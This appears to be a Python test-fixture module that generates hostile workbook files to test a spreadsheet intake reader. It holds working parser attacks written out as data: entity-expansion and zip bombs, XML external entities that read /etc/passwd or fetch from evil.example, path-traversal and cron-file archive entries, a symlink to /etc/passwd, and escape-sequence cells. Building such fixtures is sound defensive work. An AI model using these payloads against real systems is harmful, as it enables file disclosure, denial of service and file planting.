"""Workbooks that are made to do harm, by the names that the corpus has for them."""

import io
import zipfile
from collections.abc import Callable, Mapping

from tests.monitor.intake import test_workbook_bombs as known
from tests.monitor.intake.reading import workbook


def _sheet(find: bytes, put: bytes) -> bytes:
    return known.with_sheet_xml(lambda xml: xml.replace(find, put, 1))


def _doctype(stated: bytes, used: bytes) -> bytes:
    return _sheet(b"<sheetData>", b"<!DOCTYPE a [" + stated + b"]><sheetData>" + used)


def _added(*entries: tuple[str, bytes]) -> bytes:
    packed = io.BytesIO(known.good())
    with zipfile.ZipFile(packed, "a") as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return packed.getvalue()


def _laughing() -> bytes:
    stated = b'<!ENTITY l0 "lol">'
    for level in range(1, 12):
        stated += b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10)
    return _doctype(stated, b"<row><c><v>&l11;</v></c></row>")


def _nested_zip() -> bytes:
    inner = known.good()
    for _ in range(6):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("xl/workbook.xml", inner)
        inner = packed.getvalue()
    return inner


def _linked() -> bytes:
    packed = io.BytesIO(known.good())
    with zipfile.ZipFile(packed, "a") as archive:
        link = zipfile.ZipInfo("xl/worksheets/sheet2.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return packed.getvalue()


def _locked() -> bytes:
    """Set the flag of encryption in every header of the archive."""
    content = bytearray(known.good())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        found = content.find(mark)
        while found != -1:
            content[found + place] |= 1
            found = content.find(mark, found + 4)
    return bytes(content)


def _without(part: str) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(known.good())) as old, zipfile.ZipFile(packed, "w") as new:
        for entry in old.infolist():
            if entry.filename != part:
                new.writestr(entry.filename, old.read(entry))
    return packed.getvalue()


def _formulas() -> bytes:
    cell = b'<row r="3"><c r="A3"><f>HYPERLINK("http://evil.example")</f><v>=1+1</v></c></row>'
    return _sheet(b"</sheetData>", cell + b"</sheetData>")


MADE: Mapping[str, Callable[[], bytes]] = {
    "by-ratio": known.bomb_by_ratio,
    "by-size": known.bomb_by_size,
    "by-entries": known.bomb_by_entries,
    "by-lie": known.bomb_that_lies_about_its_size,
    "by-far-cell": known.bomb_by_one_far_cell,
    "by-copies": known.bomb_by_many_copies_of_one_text,
    "by-entities": known.bomb_by_entities,
    "by-laughing-entities": _laughing,
    "by-external-entity": lambda: _doctype(b'<!ENTITY x SYSTEM "file:///etc/passwd">', b"<row>&x;</row>"),
    "by-external-parameter-entity": lambda: _doctype(
        b'<!ENTITY % x SYSTEM "http://evil.example/x"> %x;', b""
    ),
    "by-depth": lambda: _sheet(b"<sheetData>", b"<sheetData>" + b"<a>" * 200_000),
    "by-attributes": lambda: _sheet(
        b"<sheetData>", b"<sheetData " + b" ".join(b'a%d="1"' % number for number in range(100_000)) + b">"
    ),
    "nested-zip": _nested_zip,
    "names-that-climb": lambda: _added(("../../../evil.xml", b"<a/>")),
    "absolute-names": lambda: _added(("/etc/cron.d/evil", b"* * * * * root id")),
    "double-entries": lambda: _added(("xl/workbook.bin", b"<a/>")),
    "link-entry": _linked,
    "encrypted-flag": _locked,
    "truncated": lambda: known.good()[:-40],
    "macro-part": lambda: _added(("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(64))),
    "external-link": lambda: _added(("xl/externalLinks/externalLink1.xml", b"<externalLink/>")),
    "formula-cells": _formulas,
    "million-columns": lambda: workbook({"年度报送": [["x"] * 16_000, ["y"] * 16_000]}),
    "negative-place": lambda: _sheet(b'r="C2"', b'r="-1"'),
    "utf16-xml": lambda: known.with_sheet_xml(lambda xml: xml.decode().encode("utf-16")),
    "doctype-only": lambda: _doctype(b"", b""),
    "no-content-types": lambda: _without("[Content_Types].xml"),
    "empty-sheet": lambda: known.with_sheet_xml(lambda _: b""),
    "control-cells": lambda: _sheet(b"<v>", b"<v>&#27;[2J&#0;"),
    "quine-like": lambda: _added(("xl/worksheets/sheet1.xml.zip", known.good())),
}
